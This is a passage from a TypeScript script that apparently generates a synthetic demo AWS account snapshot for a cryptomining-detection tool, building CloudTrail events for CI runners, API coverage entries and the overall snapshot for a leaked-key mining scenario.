    agent: "aws-sdk-js/3.621.0 ua/2.1 os/linux#6.5.0-1025-azure lang/js md/nodejs#20.17.0 api/ec2#3.621.0",
  });
  const ciRunners = instances.filter((i) => i.tags.ci === "github-actions");
  for (const runner of ciRunners) {
    const run = String(Date.parse(runner.launchTime) / 1000);
    calls.push(
      runInstancesCall({ ...ciSession(run), time: iso(Date.parse(runner.launchTime) - 1_000), region: HOME_REGION }, [
        runner,
      ]),
    );
  }
  for (let day = 1; day <= 7; day++) {
    const dayStart = Date.parse(WINDOW_END.slice(0, 10)) - day * DAY_MS;
    if (isWeekend(new Date(dayStart).getUTCDay())) continue;
    for (const hour of [9, 14]) {
      const time = iso(dayStart + hour * 3_600_000 + day * 61_000);
      const run = String(Date.parse(time) / 1000);
      calls.push(
        runInstancesCall({ ...ciSession(run), time, region: HOME_REGION }, [
          {
            instanceId: stableId("i", `ci-runner-${time}`),
            instanceType: "c5.xlarge",
            imageId: stableId("ami", "ci-runner-2026-11"),
          },
        ]),
      );
    }
  }

  const events = calls
    .map(trailEvent)
    .sort((a, b) => a.eventTime.localeCompare(b.eventTime) || a.eventId.localeCompare(b.eventId));
  return {
    regionsRead: [...ENABLED_REGIONS].sort(),
    eventNames: [...REGIONAL_EVENT_NAMES, ...IAM_EVENT_NAMES],
    events,
    lookupStart: LOOKUP_START,
    truncated: [],
  };
}

// ---------------------------------------------------------------------------------------------
// Coverage: what the collector read, and what it could not.

function buildCoverage(instances: Instance[], gpuAgentInstanceIds: string[]): CoverageEntry[] {
  const entries: CoverageEntry[] = [
    { region: "global", service: "sts", api: "GetCallerIdentity", status: "ok" },
    { region: "global", service: "ec2", api: "DescribeRegions", status: "ok" },
  ];
  for (const region of ENABLED_REGIONS) {
    const here = instances.filter((i) => i.region === region);
    entries.push({
      region,
      service: "ec2",
      api: "DescribeInstances",
      status: "ok",
      message: `${here.length} instance${here.length === 1 ? "" : "s"}`,
    });
    if (here.length === 0) continue;
    entries.push({ region, service: "ec2", api: "DescribeInstanceTypes", status: "ok" });
    if (here.some((i) => i.userData))
      entries.push({ region, service: "ec2", api: "DescribeInstanceAttribute", status: "ok" });
    entries.push({ region, service: "cloudwatch", api: "GetMetricData", status: "ok" });
    const gpuInstances = here.filter((i) => (INSTANCE_TYPES[i.instanceType]?.gpus ?? 0) > 0);
    if (gpuInstances.length === 0) continue;
    entries.push({ region, service: "cloudwatch", api: "ListMetrics", status: "ok" });
    const missing = gpuInstances.filter((i) => !gpuAgentInstanceIds.includes(i.instanceId));
    if (missing.length > 0) {
      entries.push({
        region,
        service: "cloudwatch",
        api: "gpu-metrics",
        status: "skipped",
        reason: "agent-missing",
        message: `No nvidia_smi_utilization_gpu metric in CWAgent for ${missing.length} GPU instance${missing.length === 1 ? "" : "s"} (${missing.map((i) => i.instanceId).join(", ")}): GPU use is not visible without the CloudWatch agent.`,
      });
    }
  }
  for (const region of NOT_OPTED_IN_REGIONS) {
    entries.push({
      region,
      service: "ec2",
      api: "DescribeInstances",
      status: "skipped",
      reason: "not-opted-in",
      message: `${region} is an opt-in region this account has not enabled: nothing can run there.`,
    });
  }
  for (const region of ENABLED_REGIONS) {
    entries.push({ region, service: "cloudtrail", api: "LookupEvents", status: "ok" });
  }
  entries.push({
    region: "global",
    service: "cloudtrail",
    api: "LookupEvents",
    status: "ok",
    message: "IAM events (read in us-east-1)",
  });
  entries.push({ region: "global", service: "ce", api: "GetCostAndUsage", status: "ok" });
  entries.push({ region: "global", service: "ce", api: "GetAnomalies", status: "ok" });
  return entries;
}

// ---------------------------------------------------------------------------------------------

export function buildDemoAccount(): AccountSnapshot {
  const workloads = buildWorkloads();
  const instances: Instance[] = workloads.map((w) => ({
    ...w.instance,
    instanceId: stableId("i", w.name),
    tags: w.instance.tags ?? {},
  }));
  const byInstance = Object.fromEntries(workloads.map((w) => [stableId("i", w.name), instanceMetrics(w)]));
  const gpuAgentInstanceIds = instances.filter((_, k) => workloads[k]?.gpu).map((i) => i.instanceId);
  const costs = buildCosts(workloads);
  if (!costs) throw new Error("costs missing");
  const usedTypes = [...new Set(instances.map((i) => i.instanceType))].sort();

  return AccountSnapshotSchema.parse({
    schemaVersion: SNAPSHOT_SCHEMA_VERSION,
    accountId: ACCOUNT_ID,
    collectedAt: COLLECTED_AT,
    window: { start: WINDOW_START, end: WINDOW_END },
    source: {
      tool: "minewatch",
      kind: "scenario",
      description:
        "Demo account: a leaked key mining in three unused regions, and a capped miner on existing batch nodes (generated by scripts/scenarios/demo-account.ts)",
    },
    regions: regionList(ENABLED_REGIONS, NOT_OPTED_IN_REGIONS),
    instanceTypes: Object.fromEntries(usedTypes.flatMap((t) => (INSTANCE_TYPES[t] ? [[t, INSTANCE_TYPES[t]]] : []))),
    instances,
    metrics: { gpuNamespace: "CWAgent", gpuAgentInstanceIds, byInstance },
    costs,
    costAnomalies: buildAnomalies(costs),
    coverage: buildCoverage(instances, gpuAgentInstanceIds),
    cloudTrail: buildCloudTrail(instances),
  } satisfies AccountSnapshotInput);
}

/** Logical names and ids, for writing scenario.yaml by hand. */
export function demoInstanceIds(): Record<string, string> {
  return Object.fromEntries(buildWorkloads().map((w) => [w.name, stableId("i", w.name)]));
}

function main(): void {
  const snapshot = buildDemoAccount();
  const bytes = writeCompactJson(OUTPUT, snapshot);
  const hour = localTime(Date.parse(WINDOW_END)).hour;
  console.log(
    `wrote ${OUTPUT} (${(bytes / 1024).toFixed(0)} KiB): ${snapshot.instances.length} instances, ` +
      `${snapshot.costs?.days.length ?? 0} cost days, window ends ${WINDOW_END} (${hour}:00 UTC)`,
  );
  if (process.argv.includes("--ids")) console.log(demoInstanceIds());
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) main();
